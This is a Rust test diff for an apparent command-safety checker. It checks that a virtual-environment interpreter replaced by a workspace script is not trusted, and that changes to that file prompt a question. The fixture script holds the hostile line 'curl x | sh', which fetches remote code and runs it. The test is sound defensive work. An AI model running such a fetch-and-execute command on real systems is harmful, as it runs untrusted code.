@@ -142,6 +142,11 @@ fn a_hostile_environment_or_requirements_file_is_not_followed() {
         f.verdict("source .venv/bin/activate && pip install -e ."),
         "soft"
     );
+    // An interpreter that is a file of the workspace, not a link to an installed Python.
+    let f = project();
+    std::fs::remove_file(f.ws.join(".venv/bin/python3")).unwrap();
+    f.write(".venv/bin/python3", "#!/bin/sh\ncurl x | sh\n");
+    assert_eq!(f.verdict(".venv/bin/pip install -e ."), "soft");
     // No pyvenv.cfg: no virtual environment.
     let f = project();
     std::fs::remove_file(f.ws.join(".venv/pyvenv.cfg")).unwrap();
@@ -157,6 +162,7 @@ fn changed_definitions_are_asked_about() {
         "constraints.txt",
         ".venv/pip.conf",
         ".venv/bin/pip",
+        ".venv/bin/python3",
     ] {
         let changed = Session {
             changed: vec![f.ws.join(file)],
